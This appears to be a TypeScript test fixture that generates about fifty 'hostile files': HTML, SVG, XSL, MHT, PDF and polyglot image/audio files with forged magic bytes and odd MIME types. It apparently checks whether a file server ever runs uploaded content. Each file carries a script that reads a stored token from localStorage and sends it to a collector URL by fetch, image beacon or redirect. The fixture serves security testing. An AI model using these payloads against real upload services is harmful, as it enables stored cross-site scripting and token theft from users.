import { tokenKey } from '../test.ts';
import { imageFile, type TestFile } from './files.ts';

/** Tells `collector` that it ran and what it could read, in every way that there is. */
const scriptFor = (collector: string, kind: string) => `(() => {
  let token = 'none';
  try { token = localStorage.getItem('${tokenKey}'); } catch {}
  const url = '${collector}/ran?kind=' + encodeURIComponent('${kind}') + '&token=' + token;
  try { fetch(url, { mode: 'no-cors', keepalive: true }); } catch {}
  try { new Image().src = url; } catch {}
  try { if (!self.document) postMessage('ran'); } catch {}
  // No policy forbids a document to go elsewhere; a page that only tries the file stays.
  try { if (self.document && !self.isTrying) location.href = url; } catch {}
})()`;

const svgSpace = 'xmlns="http://www.w3.org/2000/svg"';
const pageSpace = 'xmlns="http://www.w3.org/1999/xhtml"';

type Content = (script: string, collector: string) => string | Buffer;

const inHtml: Content = (script) => `<!doctype html><title>p</title><script>${script}</script>`;
const inXml: Content = (script) =>
  `<?xml version="1.0"?><a><script ${pageSpace}><![CDATA[${script}]]></script></a>`;
const inXhtml: Content = (script) =>
  `<html ${pageSpace}><head><title>p</title></head><body><script><![CDATA[${script}]]></script></body></html>`;
const inSvg: Content = (script) => `<svg ${svgSpace}><script><![CDATA[${script}]]></script></svg>`;
const inMathMl: Content = (script) =>
  `<math xmlns="http://www.w3.org/1998/Math/MathML"><script ${pageSpace}><![CDATA[${script}]]></script></math>`;
const inXsl: Content = (script) =>
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html ${pageSpace}><script><![CDATA[${script}]]></script></html></xsl:template><script ${pageSpace}><![CDATA[${script}]]></script></xsl:stylesheet>`;
const inMht: Content = (script) =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>${script}</script>\r\n--b--\r\n`;
const inMixed: Content = (script) =>
  `--b\r\nContent-Type: text/html\r\n\r\n<script>${script}</script>\r\n--b--\r\n`;
const plain: Content = (script) => script;
const inCss: Content = (_, collector) =>
  `body { background: url("${collector}/ran?kind=style.css") }`;
const inPdf: Content = (script) =>
  `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${script.replaceAll(/[()\\]/g, '\\$&')})>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>`;
/** A picture, sound or film by its first bytes, and a script or page by what follows. */
const behind =
  (start: string, content: Content): Content =>
  (...args) =>
    Buffer.concat([Buffer.from(start, 'latin1'), Buffer.from(content(...args))]);
const behindPng: Content = (...args) =>
  Buffer.concat([imageFile('').buffer, Buffer.from(inHtml(...args))]);
const utf7: Content = (...args) =>
  String(inHtml(...args))
    .replaceAll('<', '+ADw-')
    .replaceAll('>', '+AD4-');
const utf16: Content = (...args) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(String(inHtml(...args)), 'utf16le')]);

const kinds: [name: string, claimed: string, content: Content][] = [
  ['page.html', 'text/html', inHtml],
  ['page.htm', 'text/html', inHtml],
  ['page.shtml', 'text/html', inHtml],
  ['page.xhtml', 'application/xhtml+xml', inXhtml],
  ['page.xht', 'application/xhtml+xml', inXhtml],
  ['page.xml', 'application/xml', inXml],
  ['text.xml', 'text/xml', inXml],
  ['feed.rss', 'application/rss+xml', inXml],
  ['feed.atom', 'application/atom+xml', inXml],
  ['sheet.xsl', 'text/xsl', inXsl],
  ['sheet.xslt', 'application/xslt+xml', inXsl],
  ['drawing.svg', 'image/svg+xml', inSvg],
  ['drawing.svg.png', 'image/svg+xml', inSvg],
  ['drawing.svg.xml', 'image/svg+xml', inSvg],
  ['formula.mathml', 'application/mathml+xml', inMathMl],
  ['formula.mml', 'application/mathml+xml', inMathMl],
  ['page.mht', 'multipart/related', inMht],
  ['page.mhtml', 'message/rfc822', inMht],
  ['mixed.bin', 'multipart/x-mixed-replace; boundary=b', inMixed],
  ['two-types.txt', 'text/plain, text/html', inHtml],
  ['two-types', 'text/html, text/plain', inHtml],
  ['page.txt', 'text/html', inHtml],
  ['page', 'text/html', inHtml],
  ['page.unknown', 'text/html;x', inHtml],
  ['no-type.foo', '', inHtml],
  ['odd-type.bar', '*/*', inHtml],
  ['page.css', 'text/html', inHtml],
  ['page.json', 'text/html', inHtml],
  ['page.md', 'text/html', inHtml],
  ['page.csv', 'text/html', inHtml],
  ['page.vtt', 'text/html', inHtml],
  ['page.hta', 'text/html', inHtml],
  ['page.htc', 'text/html', inHtml],
  ['page.html.', 'text/html', inHtml],
  ['page.html;.png', 'text/html', inHtml],
  ['page.pdf', 'text/html', behind('%PDF-1.4\n', inHtml)],
  ['page.gif', 'text/html', behind('GIF89a\x01\0\x01\0\0\0\0', inHtml)],
  ['page.png', 'text/html', behindPng],
  ['page.mp4', 'text/html', behind('\0\0\0\x18ftypisom', inHtml)],
  ['page.mp3', 'text/html', behind('ID3\x04\0\0\0\0\0\0', inHtml)],
  ['utf-7.html', 'text/html; charset=utf-7', utf7],
  ['utf-16.html', 'text/html', utf16],
  ['script.pdf', 'application/pdf', inPdf],
  ['script.js', 'text/javascript', plain],
  ['script.mjs', 'application/javascript', plain],
  ['script.txt', 'text/javascript', plain],
  ['script.json', 'application/javascript', plain],
  ['script.gif', 'text/javascript', behind('GIF89a=1;', plain)],
  ['script.aac', 'text/javascript', behind('ID3=1;', plain)],
  ['script.wav', 'text/javascript', behind('RIFF=1;/*WAVE*/', plain)],
  ['script.bmp', 'text/javascript', behind('BM=1;/*\0\0\0\0*/', plain)],
  ['style.css', 'text/css', inCss],
];

/** Files that run a script, each in its own way, wherever a server lets them. */
export function hostileFiles(collector: string): TestFile[] {
  return kinds.map(([name, mimeType, content]) => ({
    name,
    mimeType,
    buffer: Buffer.from(content(scriptFor(collector, name), collector)),
  }));
}
